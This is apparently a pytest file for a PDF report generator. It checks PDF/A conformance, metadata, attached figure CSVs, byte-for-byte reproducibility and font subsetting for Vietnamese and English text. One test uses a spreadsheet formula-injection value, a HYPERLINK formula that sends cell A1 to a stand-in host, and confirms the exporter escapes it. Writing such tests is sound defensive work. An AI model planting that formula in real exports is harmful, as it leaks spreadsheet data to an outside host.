"""Every report PDF is archival and accessible: PDF/A-3a, tagged, XMP metadata, its figures attached as CSV."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import REPORT_PROVINCES

pikepdf = pytest.importorskip("pikepdf")


@pytest.mark.slow
def test_every_pdf_is_pdfa_3a_tagged_with_metadata_and_its_figures(built_reports):
    out, summary = built_reports
    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["reports"]
    pdfs = sorted(out.rglob("*.pdf"))
    assert len(pdfs) == len(REPORT_PROVINCES) + 2 and summary.failed == 0
    for path in pdfs:
        entry = next(e for e in entries.values() if f"{e['stem']}.pdf" == path.relative_to(out).as_posix())
        with pikepdf.open(path) as pdf:
            assert pdf.Root.MarkInfo.Marked is True and "/StructTreeRoot" in pdf.Root, path.name
            assert str(pdf.Root.Lang) == "vi"
            meta = pdf.open_metadata()
            assert meta["pdfaid:part"] == "3" and meta["pdfaid:conformance"] == "A"
            assert meta["dc:title"] == entry["title"]
            assert meta["dc:language"] == {"vi"}
            assert meta["xmp:CreateDate"].startswith("2022-12-31") and meta["pdf:Producer"].startswith("WeasyPrint")
            (name,) = pdf.attachments.keys()
            assert name == f"{path.stem}.csv"
            data = pdf.attachments[name].get_file().read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
        rows = {row["figure"]: row["value"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
        recorded = entry["recorded"]
        if entry["kind"] == "province" and recorded["profile"].get("returned"):
            assert float(rows["profile.staff_total"]) == recorded["profile"]["staff_total"]
        if entry["kind"] == "national":
            assert float(rows["national.staff_total"]) == recorded["national"]["staff_total"]
        assert rows, path.name


def test_the_figures_csv_is_formula_safe_and_keeps_numbers():
    from analysis.reports.render import figures_csv

    data = figures_csv({"profile": {"notes": '=HYPERLINK("http://x/?"&A1,"click")', "staff_total": 12,
                                    "change": -3, "names": ["@a", "b"]}})
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["figure", "value"]
    assert dict(rows[1:]) == {"profile.notes": '\'=HYPERLINK("http://x/?"&A1,"click")', "profile.staff_total": "12",
                              "profile.change": "-3", "profile.names": "'@a; b"}


def test_pdf_bytes_do_not_depend_on_the_clock_or_on_libharfbuzz_subset(monkeypatch):
    """fontTools subsets on every machine (libharfbuzz-subset present or not) and its timestamp is
    the data's date: PDFs written at other times, with the library offered or not, are identical."""
    import time

    from weasyprint.pdf import fonts

    from analysis.reports import render

    html = "<html lang='vi'><head><title>t</title></head><body><p>Cán bộ khuyến công <b>516</b></p></body></html>"
    first = render.html_to_pdf(html, 2022)
    assert fonts.harfbuzz_subset is None  # the fontTools path, forced
    later = time.time() + 86400 * 400
    monkeypatch.setattr(time, "time", lambda: later)
    monkeypatch.setattr(fonts, "harfbuzz_subset", object())  # as if the system library were there
    render.one_font_subsetter.cache_clear()
    assert render.html_to_pdf(html, 2022) == first


def test_fonts_subset_once_give_the_bytes_of_a_fresh_process_and_keep_the_text():
    """Each font file is subset once per process to a fixed glyph set (analysis.reports.fonts): a PDF's
    bytes do not depend on what the process rendered before, a glyph outside the set gets the PDF its
    own subset, and the text stays extractable either way."""
    from pypdf import PdfReader

    from analysis.reports import fonts, render

    common = "<html lang='vi'><body><p>Cán bộ khuyến công <b>516</b> — Đắk Lắk, Thừa Thiên Huế ✔</p></body></html>"
    rare = "<html lang='vi'><body><p>Cán bộ khuyến công Ωμέγα ★</p></body></html>"
    render.html_to_pdf(rare, 2022)
    after_others = render.html_to_pdf(common, 2022), render.html_to_pdf(rare, 2022)
    fonts.clear()
    assert (render.html_to_pdf(common, 2022), render.html_to_pdf(rare, 2022)) == after_others
    render.html_to_pdf(common, 2023)  # fontTools writes the data's date into a font: a subset per date
    assert len({key[-1] for key in fonts._SUBSETS}) == 2
    for pdf, words in zip(after_others, ("Thừa Thiên Huế", "Ωμέγα")):
        assert words in PdfReader(io.BytesIO(pdf)).pages[0].extract_text()


def test_english_ligatures_are_in_the_fixed_glyph_set_and_copy_as_their_letters(monkeypatch):
    """Pango shapes the "fi", "ffi" and "ff" of English text into ligature glyphs; they are in the fixed
    set, so an English page is subset once per font like a Vietnamese one (no fontTools subset of
    its own), and its text still copies as the letters typed."""
    from pypdf import PdfReader
    from weasyprint.pdf.fonts import Font

    from analysis.reports import fonts, render

    page = "<html lang='en'><body><p>Official figures: field staff, <b>efficiency</b>, <i>affiliated</i></p></body></html>"
    render.html_to_pdf(page, 2022)
    own_subsets = []
    wrapped = fonts.subset_once(lambda font, to_unicode, hinting: own_subsets.append(font.family))
    monkeypatch.setattr(fonts, "_SUBSETS", dict(fonts._SUBSETS))  # the subsets made so far, and no new one
    monkeypatch.setattr(Font, "_fonttools_subset", wrapped)
    pdf = render.html_to_pdf(page, 2022)
    assert own_subsets == [], "an English page needs no subset of its own"
    ligatures = {text for glyphs in fonts._GLYPHS.values() for text in glyphs.values() if len(text) > 1}
    assert {"fi", "ffi", "ff"} <= ligatures
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert "Official figures: field staff" in text and "efficiency" in text and "affiliated" in text
